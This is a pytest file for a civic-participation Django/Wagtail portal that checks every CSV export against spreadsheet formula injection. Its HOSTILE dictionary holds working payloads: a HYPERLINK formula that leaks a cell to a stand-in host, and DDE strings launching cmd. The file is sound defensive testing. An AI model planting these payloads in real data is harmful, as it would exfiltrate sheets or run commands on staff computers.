"""CSV injection (OWASP "CSV injection", CWE-1236): every CSV the product
offers, public and admin, with hostile text in each cell a person controls.

A spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` (and, in some
programs, one that starts with a tab or a carriage return before them) as a
formula: a contribution that begins with `=HYPERLINK(` would reach staff's
spreadsheet as a link that leaks the sheet. Each file is downloaded with one
hostile prefix at a time, and every cell must arrive neutralised: the value as
typed, after a `'`.

The files: the entity directory (`entidades.csv`), the open data of
consultations, hearings and contributions, a consultation's report
(`relatorio.csv`), the admin attendance list of an event (`presenca-*.csv`), and
Wagtail's own site history export, where the name of a person whose account
staff edited is logged.
"""

from __future__ import annotations

import csv
import io

import pytest
from django.contrib.auth.models import Group
from django.urls import reverse

from civic.downloads import FORMULA_STARTS
from consultations.models import Consultation, Contribution, Event
from tests.consultations.consultation_support import (
    approved_entity_with_representative,
)
from tests.entities.listing import publish
from tests.factories.accounts import UserFactory
from tests.factories.consultations import (
    ConsultationFactory,
    ContributionFactory,
    EventFactory,
    RegistrationFactory,
    VenueFactory,
)
from tests.factories.entities import EntityFactory

pytestmark = pytest.mark.django_db

# One payload per prefix a spreadsheet may run. Each would do harm if run:
# leak the sheet through a link, or start a program (DDE).
HOSTILE = {
    "equals": '=HYPERLINK("https://mal.example/?d="&A1;"Clique aqui")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "carriage_return": "\r=1+1",
}


ANY_COLUMN = "*"


def parse(response) -> list[dict]:
    """The rows of a CSV download, whichever separator it uses."""
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    raw = (
        b"".join(response.streaming_content) if response.streaming else response.content
    )
    text = raw.decode("utf-8-sig")
    header = text.split("\n", 1)[0]
    delimiter = ";" if ";" in header else ","
    return list(csv.DictReader(io.StringIO(text, newline=""), delimiter=delimiter))


def assert_neutralised(rows: list[dict], planted: dict[str, str]) -> None:
    """The hostile values arrived, each after a `'`, and no cell of the file
    starts with anything a spreadsheet would run. (Column `*`: any column.)"""
    for column, value in planted.items():
        if column == ANY_COLUMN:
            cells = [cell for row in rows for cell in row.values()]
        else:
            cells = [row[column] for row in rows]
        assert "'" + value in cells, (column, cells)
    for row in rows:
        for column, cell in row.items():
            assert not (cell or "").startswith(FORMULA_STARTS), (column, cell)


# What each file is made of: (URL, {column: hostile value}) after the setup.
# ------------------------------------------------------------------------------


def entities_csv(payload: str, client):
    publish(EntityFactory(name=payload, trade_name=payload, city=payload))
    planted = {"razao_social": payload, "nome_fantasia": payload}
    return reverse("entities:csv"), planted


def consultations_csv(payload: str, client):
    ConsultationFactory(title=payload, summary=payload, legal_basis=payload)
    planted = {"titulo": payload, "resumo": payload, "base_legal": payload}
    return reverse("consultations:open_data_consultations_csv"), planted


def events_csv(payload: str, client):
    EventFactory(
        title=payload,
        subject=payload,
        legal_basis=payload,
        venue=VenueFactory(name=payload, address=payload),
    )
    planted = {
        "titulo": payload,
        "assunto": payload,
        "base_legal": payload,
        "local": payload,
        "endereco": payload,
    }
    return reverse("consultations:open_data_events_csv"), planted


def answered_consultation(payload: str) -> Consultation:
    """An answered consultation whose every citizen-typed text is hostile: a
    contribution by a person who shows their name, one for an entity, a reply,
    and the staff's answer."""
    consultation = ConsultationFactory(
        title=payload, status=Consultation.Status.ANSWERED
    )
    author = UserFactory(full_name=payload)
    top = ContributionFactory(
        consultation=consultation,
        author=author,
        show_name=True,
        text=payload,
        answer=Contribution.Answer.ACCEPTED,
        answer_text=payload,
    )
    ContributionFactory(
        consultation=consultation, parent=top, author=UserFactory(), text=payload
    )
    representative = UserFactory()
    ContributionFactory(
        consultation=consultation,
        author=representative,
        on_behalf_of=approved_entity_with_representative(
            representative, name=payload, trade_name=payload
        ),
        text="Em nome da entidade.",
    )
    return consultation


def contributions_csv(payload: str, client):
    answered_consultation(payload)
    planted = {
        "consulta": payload,
        "texto": payload,
        "autoria": payload,
        "justificativa": payload,
    }
    return reverse("consultations:open_data_contributions_csv"), planted


def report_csv(payload: str, client):
    consultation = answered_consultation(payload)
    planted = {"texto": payload, "autoria": payload, "justificativa": payload}
    return (
        reverse("consultations:report_csv", kwargs={"slug": consultation.slug}),
        planted,
    )


def attendance_csv(payload: str, client):
    staff = UserFactory()
    staff.groups.add(Group.objects.get(name="Equipe SRSC"))
    client.force_login(staff)
    event = EventFactory(status=Event.Status.PUBLISHED)
    RegistrationFactory(event=event, user=UserFactory(full_name=payload))
    return reverse("consultations_events:attendance_csv", args=[event.pk]), {
        "nome": payload
    }


def site_history_csv(payload: str, client):
    """Wagtail logs the name of each account staff edit (`str(user)`), and its
    site history report exports those names as CSV."""
    from wagtail.log_actions import log

    admin = UserFactory(is_superuser=True, is_staff=True)
    log(instance=UserFactory(full_name=payload), action="wagtail.edit", user=admin)
    client.force_login(admin)
    url = reverse("wagtailadmin_reports:site_history") + "?export=csv"
    # The heading of the logged name is Wagtail's, in the active language.
    return url, {ANY_COLUMN: payload}


def resolutions_csv(payload: str, client):
    """The councils' resolutions: the ementa and the text are the secretariat's."""
    from councils.services.resolutions import resolution_publish
    from tests.factories.councils import ResolutionFactory

    staff = UserFactory()
    staff.groups.add(Group.objects.get(name="Equipe SRSC"))
    resolution = ResolutionFactory(title=payload, body=payload)
    resolution_publish(resolution_id=resolution.pk, actor=staff)
    planted = {"ementa": payload, "texto": payload}
    return reverse("councils:open_data_resolutions_csv"), planted


def council_composition_csv(payload: str, client):
    from tests.factories.councils import composed_council

    council = composed_council(government=0, civil_society=1, name=payload)
    mandate = council.mandates.filter(role="titular").first()
    mandate.person.full_name = payload
    mandate.person.save()
    council.seats.update(label=payload)
    planted = {"conselho_nome": payload, "titular": payload, "descricao": payload}
    return reverse("councils:open_data_composition_csv"), planted


def council_meetings_csv(payload: str, client):
    from tests.factories.councils import CouncilFactory, MeetingFactory

    MeetingFactory(
        council=CouncilFactory(),
        status="convened",
        title=payload,
        location_notes=payload,
    )
    planted = {"titulo": payload, "local": payload}
    return reverse("councils:open_data_meetings_csv"), planted


def partnerships_csv(payload: str, client):
    """The art. 11 list: the object and the OSC's name come from the entity
    and from imports of other portals' files."""
    from entities.partnerships.models import Partnership
    from tests.factories.partnerships import PartnershipFactory

    PartnershipFactory(
        entity=publish(EntityFactory(name=payload)),
        object=payload,
        status=Partnership.Status.EXECUTING,
    )
    planted = {"objeto": payload, "osc_nome": payload}
    return reverse("partnerships:open_data_partnerships_csv"), planted


def calls_csv(payload: str, client):
    from entities.partnerships.models import Call
    from tests.factories.partnerships import CallFactory

    CallFactory(title=payload, object=payload, status=Call.Status.PUBLISHED)
    planted = {"titulo": payload, "objeto": payload}
    return reverse("partnerships:open_data_calls_csv"), planted


DOWNLOADS = {
    "entidades.csv": entities_csv,
    "consultas.csv": consultations_csv,
    "audiencias.csv": events_csv,
    "contribuicoes.csv": contributions_csv,
    "relatorio.csv": report_csv,
    "presenca.csv (admin)": attendance_csv,
    "resolucoes.csv": resolutions_csv,
    "conselhos.csv": council_composition_csv,
    "reunioes.csv (conselhos)": council_meetings_csv,
    "parcerias.csv": partnerships_csv,
    "chamamentos.csv": calls_csv,
}


@pytest.mark.parametrize("prefix", list(HOSTILE))
@pytest.mark.parametrize("download", list(DOWNLOADS))
def test_every_csv_neutralises_formulas(client, download, prefix):
    url, planted = DOWNLOADS[download](HOSTILE[prefix], client)
    assert_neutralised(parse(client.get(url)), planted)


@pytest.mark.parametrize("prefix", list(HOSTILE))
def test_wagtail_site_history_export_neutralises_formulas(client, prefix):
    """Wagtail's admin reports export CSV with their own writer, which has no
    formula guard (wagtail.admin.views.mixins.SpreadsheetExportMixin)."""
    url, planted = site_history_csv(HOSTILE[prefix], client)
    assert_neutralised(parse(client.get(url)), planted)


def test_every_csv_url_of_the_product_is_covered():
    """A new CSV download must be added to DOWNLOADS: every URL pattern whose
    name or route says CSV is one of those above."""
    from django.urls import get_resolver

    def walk(patterns, namespace=""):
        for pattern in patterns:
            if hasattr(pattern, "url_patterns"):
                inner = (
                    f"{namespace}{pattern.namespace}:"
                    if pattern.namespace
                    else namespace
                )
                yield from walk(pattern.url_patterns, inner)
            else:
                yield f"{namespace}{pattern.name}", str(pattern.pattern)

    csv_routes = {
        name
        for name, route in walk(get_resolver().url_patterns)
        if ".csv" in route or (name and name.endswith("csv"))
    }
    assert csv_routes == {
        "entities:csv",
        "consultations:open_data_consultations_csv",
        "consultations:open_data_events_csv",
        "consultations:open_data_contributions_csv",
        "consultations:report_csv",
        "consultations_events:attendance_csv",
        "councils:open_data_resolutions_csv",
        "councils:open_data_composition_csv",
        "councils:open_data_meetings_csv",
        "partnerships:open_data_partnerships_csv",
        "partnerships:open_data_calls_csv",
    }
